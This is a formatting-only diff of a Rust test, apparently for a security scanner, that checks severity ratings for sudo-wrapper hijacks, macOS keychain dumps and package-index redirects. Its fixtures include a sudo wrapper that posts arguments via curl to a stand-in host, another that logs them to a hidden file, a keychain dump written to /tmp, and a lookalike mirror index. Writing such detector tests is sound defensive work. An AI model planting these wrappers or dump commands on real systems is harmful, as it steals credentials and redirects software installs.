@@ -12391,9 +12391,13 @@ fn honest_wrappers_names_and_company_indexes_warn_and_their_kin_block() {
             .map(|f| f.severity)
             .max()
     };
-    let wrapper = |body: &str| format!("shell/rc.sh\nsudo() {{\n{body}\n  command sudo \"$@\"\n}}\n");
+    let wrapper =
+        |body: &str| format!("shell/rc.sh\nsudo() {{\n{body}\n  command sudo \"$@\"\n}}\n");
     assert_eq!(
-        severity("command-hijack", &wrapper("  command sudo -n true 2>/dev/null || echo \"(sudo will ask)\" >&2")),
+        severity(
+            "command-hijack",
+            &wrapper("  command sudo -n true 2>/dev/null || echo \"(sudo will ask)\" >&2")
+        ),
         Some(Severity::Medium)
     );
     for body in [
@@ -12401,24 +12405,42 @@ fn honest_wrappers_names_and_company_indexes_warn_and_their_kin_block() {
         "  echo \"$*\" >> ~/.cache/.s",
         "  curl -s -d \"c=$*\" https://x.example/c >/dev/null &",
     ] {
-        assert_eq!(severity("command-hijack", &wrapper(body)), Some(Severity::High), "{body}");
+        assert_eq!(
+            severity("command-hijack", &wrapper(body)),
+            Some(Severity::High),
+            "{body}"
+        );
     }
     let dump = |line: &str| format!("scripts/kc.sh\n{line}\n");
     assert_eq!(
-        severity("keychain", &dump("security dump-keychain | awk -F'\"' '/svce/ {print $4}' | sort -u")),
+        severity(
+            "keychain",
+            &dump("security dump-keychain | awk -F'\"' '/svce/ {print $4}' | sort -u")
+        ),
         Some(Severity::Medium)
     );
     assert_eq!(
-        severity("keychain", &dump("security dump-keychain -d login.keychain > /tmp/kc.txt")),
+        severity(
+            "keychain",
+            &dump("security dump-keychain -d login.keychain > /tmp/kc.txt")
+        ),
         Some(Severity::High)
     );
-    let index = |url: &str| format!("config/uv.toml\n[[index]]\nname = \"acme\"\nurl = \"{url}\"\ndefault = true\n");
+    let index = |url: &str| {
+        format!("config/uv.toml\n[[index]]\nname = \"acme\"\nurl = \"{url}\"\ndefault = true\n")
+    };
     assert_eq!(
-        severity("registry-redirect", &index("https://pypi.acme.example/simple")),
+        severity(
+            "registry-redirect",
+            &index("https://pypi.acme.example/simple")
+        ),
         Some(Severity::Medium)
     );
     assert_eq!(
-        severity("registry-redirect", &index("https://pypi.acme-mirror.example/simple")),
+        severity(
+            "registry-redirect",
+            &index("https://pypi.acme-mirror.example/simple")
+        ),
         Some(Severity::High)
     );
 }
